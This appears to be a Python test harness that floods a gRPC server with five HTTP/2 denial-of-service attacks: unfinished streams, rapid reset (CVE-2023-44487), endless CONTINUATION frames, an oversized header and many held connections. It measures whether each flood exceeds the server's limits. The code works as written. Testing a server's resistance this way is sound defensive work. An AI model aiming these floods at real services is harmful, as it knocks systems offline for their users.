"""Floods of HTTP/2 against whoever listens: each is a function of a port, the moment when it ends and an address to come from, and returns what it Sent.

gRPC 1.51 bounds none of them by itself. They go on over new connections when one is ended: from the same address, which is made to wait then, as who has one
address would. Each flood needs an address of its own, or it is held off by what the one before it did.
"""
import dataclasses
import time

from frame.http2 import CONTINUATION, Connection, END_HEADERS, HEADERS, RST_STREAM, frame, request

PATH = "/muster.worker.v1.Bootstrap/Enroll"
AT_ONCE = 200  # Frames in one write.
FLOOR = 1 << 20  # Bytes that the door lets one connection send in one go: who has not sent them has not met its limit.


@dataclasses.dataclass
class Sent:
    """What the sockets took; what was written and not taken any more does not count."""
    bytes: int = 0
    writes: int = 0
    connections: int = 0
    cut: int = 0  # Connections that the other side ended, or read no more from.

    def __add__(self, other):
        return Sent(*(getattr(self, each.name) + getattr(other, each.name) for each in dataclasses.fields(self)))

    def __str__(self):
        return f"{self.bytes / 2**20:.1f} MiB sent over {self.connections} connections, {self.cut} cut off"


MANY = 30  # Connections that are no few.
PATIENCE = 15  # Seconds more, for who has not sent its floor: on a slow machine, or while its address waits.


def over_connections(port, end, next_writes, source, read=True, floor=FLOOR, **how):
    """Opens connections and sends what `next_writes` makes for each, until the end; some time longer while less than `floor` was sent."""
    sent = Sent()

    def over(now=0):
        return time.monotonic() >= (end if sent.bytes + now >= floor else end + PATIENCE)

    while not over():
        try:
            connection = Connection(port, source=source, **how)
        except OSError:
            time.sleep(0.02)  # The door is being started again, or has no turn for us.
            continue
        connection.socket.settimeout(1)
        sent.connections += 1
        for data in next_writes():
            if over(connection.sent):
                break
            if not connection.send(data) or read and not connection.read_away():
                sent.cut += 1
                break
            sent.writes += 1
        sent.bytes += connection.sent
        connection.close()
    return sent


BLOCK = request(PATH)  # Literals and static entries: the same block is valid each time.


def many_streams(port, end, source):
    """Calls that are opened and never go on."""

    def writes():
        for first in range(1, 2**30, 2 * AT_ONCE):
            yield b"".join(frame(HEADERS, END_HEADERS, first + 2 * i, BLOCK) for i in range(AT_ONCE))

    return over_connections(port, end, writes, source)


def open_and_reset(port, end, source):
    """Calls that are opened and reset at once (CVE-2023-44487)."""

    def writes():
        for first in range(1, 2**30, 2 * AT_ONCE):
            yield b"".join(frame(HEADERS, END_HEADERS, first + 2 * i, BLOCK) + frame(RST_STREAM, 0, first + 2 * i, b"\0\0\0\x08") for i in range(AT_ONCE))

    return over_connections(port, end, writes, source)


def endless_continuation(port, end, source):
    """One call whose headers have no end: a new small header in each frame."""

    def writes():
        yield frame(HEADERS, 0, 1, BLOCK)
        # Literal without indexing, new name: 0x00, name, value.
        header = b"\x00\x06x-more\x7f\xe1\x1e" + b"v" * 4000
        while True:
            yield frame(CONTINUATION, 0, 1, header * 4)

    return over_connections(port, end, writes, source)


def endless_header(port, end, source):
    """One header whose value has no end."""

    def writes():
        # A literal whose value is said to be 2^28 bytes long.
        yield frame(HEADERS, 0, 1, BLOCK + b"\x00\x06x-long\x7f\x81\xff\xff\x7f" + b"v" * 100)
        while True:
            yield frame(CONTINUATION, 0, 1, b"v" * 16000)

    return over_connections(port, end, writes, source)


def many_small_connections(port, end, source):
    """Connections that shake hands, open a few calls and stay."""
    held, sent = [], Sent()
    while time.monotonic() < (end if sent.connections >= MANY else end + PATIENCE):
        try:
            connection = Connection(port, source=source)
        except OSError:
            time.sleep(0.02)
            continue
        connection.send(b"".join(frame(HEADERS, END_HEADERS, stream, BLOCK) for stream in range(1, 9, 2)))
        sent += Sent(connection.sent, 1, 1)
        held.append(connection)
    for connection in held:
        connection.close()
    return sent


def attacked(flood, sent):
    """Whether a flood was one."""
    return sent.connections >= MANY if flood is many_small_connections else sent.bytes >= FLOOR


ALL = [many_streams, open_and_reset, endless_continuation, endless_header, many_small_connections]
